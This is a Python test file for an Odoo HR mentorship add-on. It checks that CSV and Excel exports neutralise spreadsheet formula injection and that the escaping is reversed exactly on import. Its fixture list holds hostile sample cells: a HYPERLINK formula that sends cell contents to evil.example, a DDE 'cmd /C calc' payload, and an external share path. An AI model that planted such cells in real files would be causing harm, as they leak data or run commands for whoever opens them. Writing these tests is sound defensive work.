import csv
import io
import json
import zipfile
from types import SimpleNamespace
from unittest.mock import patch

from lxml import etree

from odoo import Command, http
from odoo.tests import HttpCase, tagged

from ..controllers.export import shows_mentorship
from ..models.common.spreadsheet_cells import guard, unguard
from .common import MentorshipCompany

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Mia")',
    "{=1+1}",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "external:\\\\evil.example\\share",
)
WORDS = ("I like to ask.", "'=1+1", "''@me", "'tis so", "5 - 3 = 2", "3@home")


@tagged("post_install", "-at_install")
class TestExport(MentorshipCompany, HttpCase):
    """What employees have written is text in every file that a manager opens in a spreadsheet, and is read back."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.set_up_company()
        cls.pia.user_id.group_ids = [Command.link(cls.env.ref("base.group_allow_export").id)]
        cls.words = [*FORMULAS, *WORDS]
        employees = cls.env["hr.employee"].create(
            [
                {"name": f"{word[:1]}Person {index}".strip(), "work_email": f"p{index}@example.com"}
                for index, word in enumerate(cls.words)
            ]
        )
        cls.participants = cls.env["hr.mentorship.participant"].union(
            *(
                cls.enrol(employee, "mentee", state="applied", motivation=word)
                for employee, word in zip(employees, cls.words, strict=True)
            )
        )
        cls.columns = ["id", "employee_id", "motivation"]

    def export(self, kind, records=None, columns=None, import_compat=False, groupby=()):
        self.env.flush_all()
        self.authenticate("pia.test", "pia.test")
        records = self.participants if records is None else records
        data = {
            "model": records._name,
            "fields": [{"name": name, "label": name, "type": "char"} for name in columns or self.columns],
            "ids": records.ids,
            "domain": [],
            "import_compat": import_compat,
            "context": {},
            "groupby": list(groupby),
        }
        page = self.url_open(
            f"/web/export/{kind}", data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        )
        self.assertEqual(page.status_code, 200, page.text[:500])
        return page

    def read_csv(self, page):
        _header, *rows = csv.reader(io.StringIO(page.content.decode(), newline=""))
        return rows

    def read_sheet(self, content):
        """Return the texts of a workbook, and whatever in it is more than text."""
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
            strings = etree.fromstring(book.read("xl/sharedStrings.xml"))
            links = [name for name in book.namelist() if "_rels/sheet" in name or "externalLink" in name]
        texts = ["".join(item.itertext()) for item in strings.iter(f"{SHEET}si")]
        return texts, [node.tag for node in sheet.iter(f"{SHEET}f", f"{SHEET}hyperlink")] + links

    def test_csv_marks_what_a_spreadsheet_would_run(self):
        for import_compat in (False, True):
            rows = self.read_csv(self.export("csv", import_compat=import_compat))
            cells = [row[2] for row in rows]
            with self.subTest(import_compat=import_compat):
                self.assertEqual(cells, [guard(word) for word in self.words])
                self.assertFalse([cell for row in rows for cell in row if cell[:1] in "=+-@\t\r＝" and cell])
                self.assertEqual(cells[-2:], list(WORDS[-2:]), "what is none stays as it is")

    def test_file_that_nobody_has_changed_changes_nothing(self):
        """Marks and all, through both kinds of file."""
        before = self.participants.mapped("motivation")
        names = self.participants.employee_id.mapped("name")
        for kind in ("csv", "xlsx"):
            page = self.export(kind, import_compat=True)
            if kind == "csv":
                rows = self.read_csv(page)
            else:
                texts, _more = self.read_sheet(page.content)
                self.assertLessEqual({word.replace("\r", " ") for word in self.words}, set(texts))
                rows = [
                    [participant._export_rows([["id"]])[0][0], participant.employee_id.name, participant.motivation]
                    for participant in self.participants
                ]
            reader = self.participants.with_user(self.pia.user_id).with_context(import_file=True)
            result = reader.load(self.columns, rows)
            with self.subTest(kind):
                self.assertEqual(result["messages"], [])
                self.env.flush_all()
                self.env.invalidate_all()
                self.assertEqual(self.participants.mapped("motivation"), before)
                self.assertEqual(self.participants.employee_id.mapped("name"), names)

    def test_marks_of_a_new_record_are_taken_away_as_well(self):
        employee = self.env["hr.employee"].create({"name": "@Ann", "work_email": "ann@example.com"})
        result = (
            self.env["hr.mentorship.participant"]
            .with_user(self.pia.user_id)
            .with_context(import_file=True)
            .load(["employee_id", "program_id", "role", "motivation"], [["'@Ann", "Leaders", "Mentee", "'-2 kg"]])
        )
        self.assertEqual(result["messages"], [])
        participant = self.env["hr.mentorship.participant"].browse(result["ids"])
        self.assertEqual((participant.employee_id, participant.motivation), (employee, "-2 kg"))

    def test_marks_are_taken_away_exactly(self):
        for word in self.words:
            with self.subTest(word):
                self.assertEqual(unguard(guard(word)), word)

    def test_cells_of_excel_are_text(self):
        for options in ({}, {"import_compat": True}, {"groupby": ["employee_id"]}):
            texts, more = self.read_sheet(self.export("xlsx", **options).content)
            with self.subTest(**options):
                self.assertEqual(more, [])
                self.assertLessEqual({word.replace("\r", " ") for word in self.words}, set(texts))

    def test_headings_of_a_pivot_table_are_text(self):
        self.authenticate("pia.test", "pia.test")
        heading = {"title": FORMULAS[0], "width": 1, "height": 1, "is_bold": False}
        for model, found in (("hr.mentorship.participant", []), ("res.partner", [f"{SHEET}f"])):
            table = {
                "model": model,
                "title": "Pivot",
                "measure_count": 1,
                "col_group_headers": [[heading]],
                "measure_headers": [heading] if model != "res.partner" else [],
                "rows": [{"title": FORMULAS[0] if not found else "x", "indent": 0, "values": [{"value": -2}]}],
            }
            page = self.url_open(
                "/web/pivot/export_xlsx",
                data={"data": json.dumps(table), "csrf_token": http.Request.csrf_token(self)},
            )
            texts, more = self.read_sheet(page.content)
            with self.subTest(model):
                self.assertEqual(more, found)
                self.assertEqual(f"'{FORMULAS[0]}" in texts, not found)

    def test_words_reached_through_models_of_the_host_are_text_as_well(self):
        self.env["hr.employee"].invalidate_model()
        self.mia.mentorship_profile_ids.introduction = "@SUM(1+1)"
        self.pia.user_id.group_ids = [Command.link(self.env.ref("hr.group_hr_user").id)]
        for path, cell in (("mentorship_profile_ids/introduction", "'@SUM(1+1)"), ("name", "Mia")):
            [[found]] = self.read_csv(self.export("csv", self.mia, [path]))
            self.assertEqual(found, cell)

    def test_files_of_other_models_are_left_as_they_are(self):
        partner = self.env["res.partner"].create({"name": "@home"})
        self.assertEqual(self.read_csv(self.export("csv", partner, ["name"])), [["@home"]])

    def test_every_model_of_ours_is_known(self):
        with patch("odoo.addons.hr_mentorship.controllers.export.request", SimpleNamespace(env=self.env)):
            for name, model in self.env.items():
                if not model._abstract:
                    with self.subTest(name):
                        is_ours = name == "hr.mentorship" or name.startswith("hr.mentorship.")
                        self.assertEqual(shows_mentorship(name), is_ours)
            self.assertTrue(shows_mentorship("res.users", ["employee_ids/mentorship_profile_ids"]))
            self.assertFalse(shows_mentorship("res.users", ["employee_ids/name"]))
